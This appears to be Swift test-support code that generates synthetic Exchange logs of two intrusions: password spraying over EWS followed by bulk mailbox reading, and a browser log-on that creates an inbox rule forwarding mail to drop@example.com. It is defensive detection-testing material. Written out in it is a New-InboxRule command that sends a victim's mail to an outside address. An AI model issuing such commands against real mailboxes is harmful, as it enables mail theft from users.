internal import EVTXTestSupport

/// A stolen password: mail is read through the web services by a program, hundreds of items within minutes.
struct MailReading {
  var mailboxes = 2
  /// Milliseconds between two requests.
  var pace = 200...4000

  func plant(at start: Moment, by kit: inout IntruderKit, into story: inout Story) -> Moment {
    let first = kit.mailbox()
    let guesses = story.step(
      kit.who.id, .attempt, "T1110.003", nil, "passwords guessed over the web services", at: start)
    var time = start
    for _ in 0..<Int.random(in: 20...60, using: &kit.random) {
      time = time.adding(kit.wait(2...20))
      story.add(
        kit.request("POST", .ews, "/EWS/Exchange.asmx", at: time).with {
          $0.status = 401
          $0.substatus = 1
          $0.win32 = 1326
          $0.authentication = "Basic"
        }, of: guesses)
    }
    time = time.adding(kit.wait(300...2400))
    var victims = [first]
    while victims.count < mailboxes { victims.append(kit.mailbox()) }
    for (number, victim) in victims.enumerated() {
      read(victim, isFirst: number == 0, from: &time, by: &kit, into: &story)
      time = time.adding(kit.wait(200...900))
    }
    story.taken.append(
      .init(intruder: kit.who.id, how: "web services", mailboxes: victims.map(\.mail), time: time))
    return time
  }

  private func read(
    _ victim: Mailbox, isFirst: Bool, from time: inout Moment, by kit: inout IntruderKit, into story: inout Story
  ) {
    let owner = story.step(
      kit.who.id, isFirst ? .success : .post, "EXD-079", nil, "mailbox \(victim.mail) read with the password", at: time)
    for number in 0..<Int.random(in: 50...140, using: &kit.random) {
      time = time.adding(Int.random(in: pace, using: &kit.random))
      let request = kit.request("POST", .ews, "/EWS/Exchange.asmx", at: time).by(
        victim.account, "Basic", anchor: "Sid~" + victim.sid, sent: 1300,
        received: Int.random(in: 2000...400_000, using: &kit.random)
      ).with {
        $0.call = .init(action: number < 3 ? "FindItem" : "GetItem", account: victim.mail)
        $0.mailboxDatabase = victim.database
      }
      story.add(request, of: owner)
    }
  }
}

/// A stolen password: a log-on in the browser from an address that the user never had, and a rule that sends mail out.
struct BrowserLogOn {
  var setsRule = true

  func plant(at start: Moment, by kit: inout IntruderKit, into story: inout Story) -> Moment {
    let victim = kit.mailbox()
    let session = BrowserUse.session(
      of: victim, from: kit.who.address, with: kit.who.agents[0], at: start, actions: 22, in: kit.world,
      using: &kit.random)
    // One log-on from a new address is what every journey looks like: it may be found, it need not be.
    let logOn = story.step(
      kit.who.id, .success, "T1078", nil, "log-on in the browser as \(victim.mail) from a new address", must: false,
      at: session[3].end)
    for request in session { story.add(request, of: logOn) }
    var time = session.last?.end ?? start
    story.taken.append(.init(intruder: kit.who.id, how: "browser", mailboxes: [victim.mail], time: time))
    guard setsRule else { return time }
    time = time.adding(kit.wait(30...240))
    let rule = story.step(
      kit.who.id, .post, "EXD-082", nil, "rule sends the mail of \(victim.mail) to drop@example.com", at: time)
    let stem = "/ecp/RulesEditor/InboxRules.svc/NewObject"
    let line = ControlPanelLine.line(
      command: "New-InboxRule.ForwardTo=''drop@example.com''.Name=''.''.StopProcessingRules=''True''",
      url: stem + "?msExchEcpCanary=CANARY.", at: time.adding(-5), took: 300, server: kit.server, using: &kit.random)
    story.add(line, to: .ecpServer, at: time.adding(-5), of: rule)
    // The web logs say that a rule was made, as they do when its owner makes one.
    story.add(
      kit.request("POST", .ecp, stem, "msExchEcpCanary=CANARY.", at: time).by(
        victim.account, "FBA", anchor: "Sid~" + victim.sid, sent: 900, received: 700), of: rule, must: [])
    story.add(
      kit.events().cmdlet(
        "New-InboxRule", #"-ForwardTo ("drop@example.com") -Name "." -StopProcessingRules "True""#,
        by: kit.server.domain + "/Users/" + victim.alias, in: "Local-ECP-Unknown",
        process: "9120 w3wp#MSExchangeECPAppPool", at: time), at: time, of: rule)
    persist("inbox rule of \(victim.mail)", into: &story)
    for number in 1...4 {
      let forwarded = time.adding(number * 25 * Moment.minute)
      guard forwarded < kit.world.end else { break }
      let owner = story.step(
        kit.who.id, .post, "EXD-082", nil, "message sent on to drop@example.com by the rule", must: false,
        at: forwarded)
      story.add(
        TrackingRows(server: kit.server, at: forwarded, using: &kit.random).submitted(
          by: victim, to: "drop@example.com", source: "MAILBOXRULE"), of: owner)
    }
    return time
  }

  private func persist(_ text: String, into story: inout Story) { story.persistence.append(text) }
}
